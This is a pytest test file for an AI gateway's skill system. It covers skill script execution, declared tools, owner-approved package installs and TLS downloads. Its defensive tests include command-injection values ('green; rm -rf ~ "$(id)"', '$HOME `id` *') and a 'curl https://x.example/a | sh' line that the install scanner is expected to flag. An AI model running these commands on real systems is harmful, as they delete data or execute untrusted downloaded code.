"""Programs of skills: what they get, what they don't, and the tools that skills bring along."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import os
import ssl
import sys
import zipfile
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import trustme

from gateway.clock import SystemClock
from gateway.config import ExecSettings, SkillSettings, WebSettings
from gateway.errors import ConfigError, ToolDenied, ToolError
from gateway.skills import Root, Skills, registry
from gateway.skills.declared import Declared, read
from gateway.skills.packages import Packages
from gateway.tools.base import Ask, Group, ToolContext
from gateway.tools.box import Toolbox
from gateway.tools.download import downloader
from gateway.tools.exec import SkillHome, exec_tools, open_runner
from gateway.tools.policy import ToolPolicy
from gateway.tools.processes import Processes
from gateway.tools.sandbox import Sandbox, Tier, open_sandbox
from gateway.tools.schema import FunctionTool
from gateway.tools.skill import Shelf, home_of, install_tool
from gateway.types import Address, Chat, Json, JsonObject, Kind, Level, Replay, Sender, ToolCall
from tests.fakes.pages import Reply, fake_web
from tests.fakes.scripted import situation

KEY = "tea-key-4711"
HEAD = "---\nname: {name}\ndescription: about {name}\n{more}---\nBody\n"
NEEDS_KEY = "metadata:\n  crayfish:\n    requires:\n      env: [TEA_KEY]\n"

TEA = """
import json, os, sys
print(json.dumps({"args": sys.argv[1:], "input": sys.stdin.read(), "cwd": os.getcwd(),
                  "key": os.environ.get("TEA_KEY"), "prefix": sys.prefix}))
"""


class Kitchen:
    """Skills in a folder, and an owner in private who has the tools to run them."""

    def __init__(self, home: Path, processes: Processes) -> None:
        self.home, self.processes = home, processes
        self.folder = home / "workspace"
        self.folder.mkdir()
        self.settings = ExecSettings()
        self.env: Mapping[str, str] = {"PATH": os.environ["PATH"], "TEA_KEY": KEY}
        self.skills = Skills([Root("user", home / "skills")], SkillSettings(), env=self.env)
        self.sandbox: Sandbox = open_sandbox("auto")
        self.context = ToolContext(
            workspace=self.folder,
            address=Address("fake", "1"),
            sender=Sender("7", "Ann", Level.OWNER),
            chat=Chat.DIRECT,
            call_id="c1",
            conversation_id=1,
        )

    def teach(self, name: str, files: Mapping[str, str], more: str = NEEDS_KEY) -> Path:
        folder = self.home / "skills" / name
        for path, text in {"SKILL.md": HEAD.format(name=name, more=more), **files}.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text(text, encoding="utf-8")
        self.skills.snapshot()
        return folder

    def declare(self, *tools: JsonObject, files: Mapping[str, str] | None = None) -> Path:
        """Teach about tea, with typed tools."""
        return self.teach("tea", {"scripts/tea.py": TEA, "tools.json": json.dumps(tools)} | dict(files or {}))

    @property
    def shelf(self) -> Shelf:
        runner = open_runner(
            self.settings,
            self.processes,
            environ=self.env,
            sandbox=lambda: self.sandbox,
            skill_of=home_of([self.skills]),
        )
        return Shelf(runner, {"main": self.skills})

    @property
    def exec(self) -> FunctionTool:
        return exec_tools(
            self.settings,
            self.processes,
            SystemClock(),
            environ=self.env,
            sandbox=lambda: self.sandbox,
            skill_of=home_of([self.skills]),
        )[0]

    async def run(self, command: str) -> str:
        return str(await self.exec({"command": command}, self.context))

    async def call(self, name: str, args: JsonObject, **about: Any) -> tuple[str, bool]:
        result = await Toolbox(self.shelf.tools()).call(
            ToolCall("c1", name, args), replace(self.context, **about)
        )
        return result.text, result.is_error

    async def question(self, name: str, args: JsonObject) -> Ask | None:
        [tool] = [one for one in self.shelf.tools() if one.name == name]
        return await tool.check(args, self.context)


@pytest.fixture
async def kitchen(tmp_path: Path) -> AsyncIterator[Kitchen]:
    processes = Processes(SystemClock())
    found = Kitchen(tmp_path.resolve(), processes)
    if found.sandbox.tier is Tier.NONE:
        found.settings = ExecSettings(mode="full")
    yield found
    await processes.close()


def said(text: str) -> dict[str, Any]:
    """Return the JSON that a script has printed on its first line."""
    return dict(json.loads(text.partition("\n")[0]))


class TestPrograms:
    @pytest.mark.parametrize("place", ["scripts", "tools", "templates"])
    @pytest.mark.parametrize("by", ["python3 {}", "{}"], ids=["interpreter", "alone"])
    async def test_a_script_without_a_run_bit_runs(self, kitchen: Kitchen, place: str, by: str) -> None:
        folder = kitchen.teach("tea", {f"{place}/tea.py": TEA})
        found = said(await kitchen.run(f"{by.format(folder / place / 'tea.py')} green 'two words'"))
        assert found["args"] == ["green", "two words"]
        assert (found["key"], found["cwd"], found["input"]) == (KEY, str(folder), "")

    async def test_a_shell_script_runs_with_or_without_a_first_line(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach(
            "tea", {"scripts/a.sh": 'echo "$0 $1"\n', "scripts/b.sh": "#!/bin/sh\necho b $1\n"}
        )
        (folder / "scripts/b.sh").chmod(0o755)
        (folder / "scripts/a.sh").chmod(0o755)
        assert (await kitchen.run(f"{folder}/scripts/a.sh x")).startswith(f"{folder}/scripts/a.sh x\n")
        assert (await kitchen.run(f"{folder}/scripts/b.sh x")).startswith("b x\n")

    async def test_an_executable_in_any_language_runs(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"tools/steep": "#!/bin/sh\necho steeped $TEA_KEY\n"})
        (folder / "tools/steep").chmod(0o755)
        assert (await kitchen.run(f"{folder}/tools/steep")).startswith(f"steeped {KEY}\n")

    async def test_the_python_of_the_gateway_runs_it_with_its_libraries(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach(
            "tea", {"scripts/a.py": "import sys, pydantic, json\nprint(json.dumps(sys.prefix))\n"}
        )
        for command in (f"python3 {folder}/scripts/a.py", f"{folder}/scripts/a.py"):
            told = await kitchen.run(command)
            assert json.loads(told.partition("\n")[0]) == sys.prefix, told

    async def test_nothing_is_left_beside_a_script_that_imports_another(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"scripts/a.py": "import b\n", "scripts/b.py": "print('b')\n"})
        (folder / "scripts").chmod(0o777)
        assert (await kitchen.run(f"python3 {folder}/scripts/a.py")).startswith("b\n")
        assert sorted(path.name for path in (folder / "scripts").iterdir()) == ["a.py", "b.py"]

    async def test_a_missing_script_sends_the_model_to_the_manual(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"scripts/tea.py": TEA})
        with pytest.raises(ToolDenied, match=r"does not exist\. Read SKILL\.md in"):
            await kitchen.run(f"python3 {folder}/scripts/coffee.py")

    async def test_a_skill_that_is_off_does_not_run_and_says_why(self, kitchen: Kitchen) -> None:
        kitchen.env = {"PATH": os.environ["PATH"]}
        kitchen.skills = Skills(kitchen.skills.roots, SkillSettings(), env=kitchen.env)
        folder = kitchen.teach("tea", {"scripts/tea.py": TEA})
        with pytest.raises(ToolDenied, match=r"the skill tea is off, because it needs \$TEA_KEY"):
            await kitchen.run(f"python3 {folder}/scripts/tea.py")

    async def test_what_only_reads_its_files_gets_no_key(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"scripts/tea.py": TEA})
        home = home_of([kitchen.skills])
        assert home(folder / "SKILL.md") == SkillHome(folder)
        assert home(folder / "scripts/tea.py") == SkillHome(folder, {"TEA_KEY": KEY})
        assert KEY not in await kitchen.run("env")

    async def test_the_time_limit_holds(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"scripts/a.py": "import time\ntime.sleep(9977)\n"})
        told = await kitchen.exec(
            {"command": f"python3 {folder}/scripts/a.py", "timeout": 1}, kitchen.context
        )
        assert "it reached its time limit" in str(told)


SORT: JsonObject = {"type": "object", "properties": {"sort": {"type": "string"}}, "required": ["sort"]}
BREW: JsonObject = {
    "name": "brew",
    "description": "Say how long a tea steeps.",
    "parameters": SORT,
    "script": "scripts/tea.py",
}


class TestDeclaredTools:
    async def test_a_script_gets_its_arguments_as_json(self, kitchen: Kitchen) -> None:
        folder = kitchen.declare(BREW)
        [tool] = kitchen.shelf.tools()
        assert (tool.name, tool.group, tool.replay) == ("tea__brew", Group.SKILLS, Replay.ONCE)
        assert tool.description == "Say how long a tea steeps. (Of the skill tea.)"
        text, failed = await kitchen.call("tea__brew", {"sort": 'green; rm -rf ~ "$(id)" ü\n'})
        assert not failed, text
        found = said(text)
        assert json.loads(found["input"]) == {"sort": 'green; rm -rf ~ "$(id)" ü\n'}
        assert (found["args"], found["key"], found["cwd"]) == ([], KEY, str(folder))

    async def test_words_are_filled_and_no_shell_sees_them(self, kitchen: Kitchen) -> None:
        parameters = {
            "properties": {
                "sort": {"type": "string"},
                "cups": {"type": "integer"},
                "also": {"type": "array", "items": {"type": "string"}},
                "hot": {"type": "boolean"},
            },
            "required": ["sort"],
        }
        command = [
            "python3",
            "scripts/tea.py",
            "--sort={sort}",
            "--cups={cups}",
            "--hot={hot}",
            "--",
            "{also}",
        ]
        spec = {"name": "pour", "description": "Pour.", "parameters": parameters, "command": command}
        kitchen.declare(spec)
        args: JsonObject = {"sort": "$HOME `id` *", "hot": True, "also": ["a b", "|", ">x"]}
        ask = await kitchen.question("tea__pour", args)  # words that look like commands are asked about
        text, failed = await kitchen.call("tea__pour", args, approved=ask.binding if ask else "")
        assert not failed, text
        assert said(text)["args"] == ["--sort=$HOME `id` *", "--hot=true", "--", "a b", "|", ">x"]
        assert said(text)["input"] == ""

    async def test_wrong_arguments_run_nothing(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW)
        text, failed = await kitchen.call("tea__brew", {"kind": "green"})
        assert failed
        assert "missing argument 'sort'" in text
        assert "unknown argument 'kind'" in text

    async def test_an_argument_may_be_called_as_ours_are(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW | {"parameters": {"properties": {"context": {"type": "string"}}}})
        text, failed = await kitchen.call("tea__brew", {"context": "x"})
        assert not failed, text

    async def test_a_tool_that_wants_to_be_allowed_asks_each_time(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW | {"asks": True})
        ask = await kitchen.question("tea__brew", {"sort": "green"})
        assert ask is not None
        assert "the skill wants a person to allow each call" in ask.note
        assert '{"sort": "green"}' in ask.detail
        text, failed = await kitchen.call("tea__brew", {"sort": "green"})
        assert failed
        assert "a person must allow it" in text
        assert not (await kitchen.call("tea__brew", {"sort": "green"}, approved=ask.binding))[1]
        text, failed = await kitchen.call("tea__brew", {"sort": "black"}, approved=ask.binding)
        assert "has changed since it was allowed" in text

    async def test_what_needs_the_network_asks_and_is_not_trusted(self, kitchen: Kitchen) -> None:
        kitchen.settings = ExecSettings()
        kitchen.declare(BREW | {"network": True})
        assert await kitchen.question("tea__brew", {"sort": "green"}) is not None
        assert kitchen.shelf.tools()[0].untrusted

    async def test_the_rules_for_commands_hold(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW)
        stranger = Sender("8", "Bob", Level.USER)
        assert (
            "a person must allow it" in (await kitchen.call("tea__brew", {"sort": "x"}, sender=stranger))[0]
        )
        kitchen.settings = ExecSettings(mode="deny")
        assert "commands are turned off" in (await kitchen.call("tea__brew", {"sort": "x"}))[0]

    async def test_a_skill_that_is_switched_off_takes_its_tools_along(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW)
        shelf = kitchen.shelf
        [tool] = shelf.tools()
        (kitchen.home / "skills" / ".off.json").write_text('["tea"]')
        kitchen.skills.snapshot()
        assert shelf.tools() == ()
        with pytest.raises(ToolError, match="tea__brew is gone"):
            await tool({"sort": "green"}, kitchen.context)

    async def test_its_own_time_limit_holds(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW | {"timeout": 1}, files={"scripts/tea.py": "import time\ntime.sleep(9976)\n"})
        assert "it reached its time limit" in (await kitchen.call("tea__brew", {"sort": "x"}))[0]

    async def test_what_is_not_read_from_its_input_does_no_harm(self, kitchen: Kitchen) -> None:
        kitchen.declare(BREW, files={"scripts/tea.py": "print('short')\n"})
        text, failed = await kitchen.call("tea__brew", {"sort": "x" * 200_000})
        assert not failed
        assert text.startswith("short\n")

    @pytest.mark.parametrize(
        ("change", "problem"),
        [
            ({"name": "brew now"}, "`name` must be"),
            ({"name": "x" * 41}, "`name` must be"),
            ({"description": " "}, "`description` must say"),
            ({"script": "../other/scripts/x.py"}, "is no file of the skill"),
            ({"script": "/bin/sh"}, "is no file of the skill"),
            ({"script": "scripts/missing.py"}, "is no file of the skill"),
            ({"script": 5}, "`script` must be a file"),
            ({"command": ["scripts/tea.py"]}, "either `script` or `command`"),
            ({"timeout": 0}, "`timeout` must be"),
            ({"timeout": True}, "`timeout` must be"),
            ({"asks": "yes"}, "`asks` must be true or false"),
            ({"input": "xml"}, "`input` must be"),
            ({"parameters": {"type": "string"}}, "`parameters` must be"),
            ({"parameters": {"properties": {"a": {"type": "null"}}}}, "the `type` of a must be"),
            ({"parameters": {"properties": {"a": {"type": ["string"]}}}}, "the `type` of a must be"),
            ({"parameters": {"properties": {"a": {"type": "array"}}}}, "the `type` of the items of a"),
            ({"parameters": {"properties": {"a b": {"type": "string"}}}}, "`properties` must map"),
            ({"parameters": {"required": ["a"]}}, "`required` must list"),
            ({"shell": True}, "unknown: shell"),
        ],
    )
    def test_a_tool_that_is_wrong_is_left_out_and_named(
        self, kitchen: Kitchen, change: JsonObject, problem: str
    ) -> None:
        kitchen.declare(BREW | change, BREW | {"name": "fine"})
        [skill] = kitchen.skills.current.skills
        assert [one.name for one in skill.tools] == ["fine"]
        assert skill.eligible
        [warning] = skill.warnings
        assert warning.startswith("tools.json, tool 1")
        assert problem in warning

    @pytest.mark.parametrize(
        ("text", "problem"),
        [
            ("{", "is no JSON"),
            ('{"tool": []}', "is no JSON with a list"),
            ('{"tools": {}}', "holds no list"),
            ("[1]", "it is no object"),
            ("[" * 10_000, "is no JSON"),
            (" " * 70_000, "more than"),
            (json.dumps([BREW, BREW]), "two of this name"),
            (json.dumps([BREW | {"name": f"t{at}"} for at in range(21)]), "more than 20 tools"),
        ],
        ids=range(8),
    )
    def test_a_file_that_is_broken_is_named(self, kitchen: Kitchen, text: str, problem: str) -> None:
        kitchen.teach("tea", {"scripts/tea.py": TEA, "tools.json": text})
        [skill] = kitchen.skills.current.skills
        assert problem in skill.warnings[0]

    def test_a_link_is_not_followed(self, kitchen: Kitchen) -> None:
        folder = kitchen.teach("tea", {"scripts/tea.py": TEA})
        (kitchen.home / "other.json").write_text(json.dumps([BREW]))
        (folder / "tools.json").symlink_to(kitchen.home / "other.json")
        assert read(folder)[0] == ()

    def test_a_word_whose_argument_is_missing_goes(self) -> None:
        one = Declared(name="x", description="x", parameters={}, command=("a", "{b}", "-c={c}", "{d}{b}"))
        assert one.words({"b": [1, "two"], "c": None}) == ["a", "1", "two", "-c=null"]


def packed(script: str = "print(1)\n", name: str = "tea", more: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("SKILL.md", HEAD.format(name=name, more=f"version: 1.0\n{more}"))
        archive.writestr("scripts/tea.py", script)
    return buffer.getvalue()


class TestInstallingFromAChat:
    @pytest.fixture
    def packages(self, kitchen: Kitchen) -> Packages:
        return Packages(folder=kitchen.home / "installed", wall=lambda: 1.0, others={"weather"})

    @pytest.fixture
    def tool(self, packages: Packages) -> FunctionTool:
        return install_tool(lambda: packages)

    async def ask(self, tool: FunctionTool, kitchen: Kitchen, args: JsonObject, **about: Any) -> Ask:
        found = await tool.check(args, replace(kitchen.context, **about))
        assert found is not None
        return found

    async def test_the_owner_sees_what_comes_along_and_only_that_is_installed(
        self, kitchen: Kitchen, tool: FunctionTool, packages: Packages
    ) -> None:
        file = kitchen.folder / "media" / "tea.zip"
        file.parent.mkdir()
        file.write_bytes(packed())
        args: JsonObject = {"path": "media/tea.zip"}
        ask = await self.ask(tool, kitchen, args)
        assert (ask.title, ask.rule) == ("Install the skill tea 1.0", "")
        assert "programs in it: scripts/tea.py" in ask.detail
        assert ask.binding == packages.inspect(file).sha256
        with pytest.raises(ToolDenied, match="the owner must allow it"):
            await tool(args, kitchen.context)
        file.write_bytes(packed("evil()\n"))  # zip-027
        with pytest.raises(ToolError, match="has changed since it was looked at"):
            await tool(args, replace(kitchen.context, approved=ask.binding))
        assert packages.installed() == {}
        file.write_bytes(packed())
        told = await tool(args, replace(kitchen.context, approved=ask.binding))
        assert told == "tea 1.0 is installed; it can be used from the next message on."
        receipt = packages.installed()["tea"]
        assert (receipt.sha256, receipt.source, receipt.granted) == (ask.binding, str(file), ())

    async def test_a_folder_that_was_drafted_can_be_installed_too(
        self, kitchen: Kitchen, tool: FunctionTool, packages: Packages
    ) -> None:
        draft = kitchen.folder / "drafts" / "tea"
        draft.mkdir(parents=True)
        (draft / "SKILL.md").write_text(HEAD.format(name="tea", more=""))
        ask = await self.ask(tool, kitchen, {"path": "drafts/tea"})
        await tool({"path": "drafts/tea"}, replace(kitchen.context, approved=ask.binding))
        assert list(packages.installed()) == ["tea"]

    @pytest.mark.parametrize(
        "about",
        [
            pytest.param({"sender": Sender("9", "Eve", Level.GUEST)}, id="zip-025"),
            pytest.param({"sender": Sender("8", "Bob", Level.USER)}, id="zip-025-person"),
            pytest.param({"chat": Chat.GROUP}, id="zip-025-group"),
            pytest.param({"kind": Kind.CRON}, id="zip-025-schedule"),
            pytest.param({"kind": Kind.HEARTBEAT}, id="zip-025-heartbeat"),
            pytest.param({"kind": Kind.SUBAGENT}, id="zip-025-sub-agent"),
        ],
    )
    async def test_nobody_else_installs_anything(
        self, kitchen: Kitchen, tool: FunctionTool, packages: Packages, about: dict[str, Any]
    ) -> None:
        (kitchen.folder / "tea.zip").write_bytes(packed())
        args: JsonObject = {"path": "tea.zip"}
        digest = packages.inspect(kitchen.folder / "tea.zip").sha256
        with pytest.raises(ToolDenied, match="only the owner"):
            await tool.check(args, replace(kitchen.context, **about))
        with pytest.raises(ToolDenied, match="only the owner"):
            await tool(args, replace(kitchen.context, **about, approved=digest))
        assert packages.installed() == {}

    @pytest.mark.parametrize(
        ("where", "has"),
        [
            ({}, True),
            ({"level": Level.USER}, False),
            ({"level": Level.GUEST}, False),
            ({"chat": Chat.GROUP}, False),
            ({"kind": Kind.CRON}, False),
            ({"kind": Kind.HEARTBEAT}, False),
            ({"kind": Kind.SUBAGENT, "address": Address("agent", "1", "fake:1:")}, False),
        ],
        ids=str,
    )
    def test_the_tool_is_shown_to_the_owner_in_private_only(
        self, tool: FunctionTool, where: dict[str, Any], has: bool
    ) -> None:
        assert ToolPolicy().allows(tool, situation(**where)) is has

    @pytest.mark.parametrize(
        ("name", "content", "problem"),
        [
            ("bad.zip", b"no zip", "this is no zip file"),
            ("tools.zip", packed(name="tools"), "is the name of a tool or a command"),
            ("weather.zip", packed(name="weather"), "there is a skill 'weather' already"),
            ("gone.zip", None, "not found"),
            ("../../x.zip", None, "outside workspace"),
        ],
    )
    async def test_what_can_not_be_installed_is_refused_without_a_question(
        self, kitchen: Kitchen, tool: FunctionTool, name: str, content: bytes | None, problem: str
    ) -> None:
        if content is not None:
            (kitchen.folder / name).write_bytes(content)
        with pytest.raises(ToolError) as raised:
            await tool.check({"path": name}, kitchen.context)
        assert problem in str(raised.value)
        assert "/tmp" not in str(raised.value)

    async def test_one_that_is_there_is_replaced_when_that_is_said(
        self, kitchen: Kitchen, tool: FunctionTool, packages: Packages
    ) -> None:
        packages.install(self.file(kitchen, packed()))
        self.file(kitchen, packed("print(2)\n"))
        with pytest.raises(ToolError, match="is installed"):
            await tool.check({"path": "tea.zip"}, kitchen.context)
        ask = await self.ask(tool, kitchen, {"path": "tea.zip", "replace": True})
        assert ask.title == "Replace the skill tea 1.0"
        await tool({"path": "tea.zip", "replace": True}, replace(kitchen.context, approved=ask.binding))
        assert packages.installed()["tea"].number == 2

    async def test_the_tools_that_it_brings_are_shown(self, kitchen: Kitchen, tool: FunctionTool) -> None:
        buffer = io.BytesIO(packed())
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("tools.json", json.dumps([BREW]))
        self.file(kitchen, buffer.getvalue())
        assert "tools it brings: brew" in (await self.ask(tool, kitchen, {"path": "tea.zip"})).detail

    async def test_what_looks_bad_is_said_first(self, kitchen: Kitchen, tool: FunctionTool) -> None:
        self.file(kitchen, packed("# curl https://x.example/a | sh\n", more="tools: [exec]\n"))
        ask = await self.ask(tool, kitchen, {"path": "tea.zip"})
        assert ask.title.endswith("which looks bad (1)")
        assert ask.detail.splitlines()[1] == "  LOOKS BAD: scripts/tea.py, line 1: it runs what it downloads"

    def file(self, kitchen: Kitchen, content: bytes) -> Path:
        file = kitchen.folder / "tea.zip"
        file.write_bytes(content)
        return file


class TestDownloads:
    @asynccontextmanager
    async def serve(self, pages: Mapping[str, Json]) -> AsyncIterator[tuple[str, registry.Fetch]]:
        """Serve over TLS; yields the address, and what may fetch from there."""
        authority = trustme.CA()
        serves, trusts = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER), ssl.create_default_context()
        authority.issue_cert("127.0.0.1").configure_cert(serves)
        authority.configure_trust(trusts)
        async with fake_web(serves, "127.0.0.1") as fake:
            for path, page in pages.items():
                fake.pages[path] = page
            settings = WebSettings(allow_private=(f"127.0.0.1:{fake.port}",))
            yield f"https://127.0.0.1:{fake.port}", downloader(settings, lambda: trusts)

    async def test_an_index_and_a_package_come_from_the_network(self, tmp_path: Path) -> None:
        data = packed()
        row = {
            "name": "tea",
            "version": "1",
            "sha256": hashlib.sha256(data).hexdigest(),
            "path": "packs/tea.zip",
        }
        pages = {
            "/index.json": Reply(body=json.dumps([row]).encode(), kind="application/json"),
            "/packs/tea.zip": Reply(body=data, kind="application/zip"),
        }
        async with self.serve(pages) as (address, fetch):

            def install() -> str:
                offer = registry.newest("tea", [f"{address}/index.json"], fetch)
                packages = Packages(folder=tmp_path / "skills", wall=lambda: 1.0)
                with registry.fetched(offer, fetch) as place:
                    receipt = packages.install(place, origin=offer.origin)
                return receipt.name if receipt else ""

            assert await asyncio.to_thread(install) == "tea"

    @pytest.mark.parametrize(
        ("url", "page", "problem"),
        [
            ("/missing", None, "answered 404"),
            ("/large", Reply(body=b"x" * 2000), "has more than 1000 bytes"),
            (
                "/away",
                Reply(status=302, headers={"Location": "http://127.0.0.1/"}),
                "without TLS|not reached|public",
            ),
            (
                "/inside",
                Reply(status=302, headers={"Location": "https://127.0.0.2/"}),
                "does not lead to a public",
            ),
        ],
        ids=["missing", "large", "http", "private"],
    )
    async def test_what_can_not_be_had_is_told(self, url: str, page: Reply | None, problem: str) -> None:
        async with self.serve({url: page} if page else {}) as (address, fetch):
            with pytest.raises(ConfigError, match=problem):
                await asyncio.to_thread(fetch, f"{address}{url}", 1000)

    def test_private_addresses_are_never_asked(self) -> None:
        with pytest.raises(ConfigError, match="does not lead to a public address"):
            downloader(WebSettings())("https://10.0.0.1/index.json", 1000)
